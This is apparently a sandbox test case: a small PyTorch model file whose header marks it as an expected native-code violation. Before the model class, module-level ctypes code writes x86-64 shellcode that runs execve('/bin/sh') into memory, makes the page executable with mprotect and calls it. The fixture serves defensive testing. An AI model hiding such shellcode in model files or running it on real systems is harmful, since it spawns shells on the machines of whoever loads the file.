# threat: native
# expect: violation
# input: float:2x100
# layer: all
# The same through mprotect: a writable page made executable, then run; its
# raw execve() of /bin/sh is a denied system call (x86-64 only).
import torch
import torch.nn as nn

ct = torch.ctypes
libc = ct.CDLL(None)
libc.mmap.restype = ct.c_void_p
libc.mmap.argtypes = [ct.c_void_p, ct.c_size_t, ct.c_int, ct.c_int, ct.c_int, ct.c_long]
libc.mprotect.argtypes = [ct.c_void_p, ct.c_size_t, ct.c_int]
page = libc.mmap(None, 4096, 3, 0x22, -1, 0)  # PROT_READ|WRITE
path = ct.create_string_buffer(b"/bin/sh")
# mov rdi, path; xor esi, esi; xor edx, edx; mov eax, SYS_execve; syscall; ret
code = (bytes([0x48, 0xbf]) + ct.addressof(path).to_bytes(8, "little")
        + bytes([0x31, 0xf6, 0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05, 0xc3]))
ct.memmove(page, code, len(code))
if libc.mprotect(page, 4096, 7) != 0:  # PROT_READ|WRITE|EXEC
    raise OSError("mprotect(RWX) refused")
ct.CFUNCTYPE(ct.c_long)(page)()


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(100, 10)

    def forward(self, x):
        return self.fc(x)
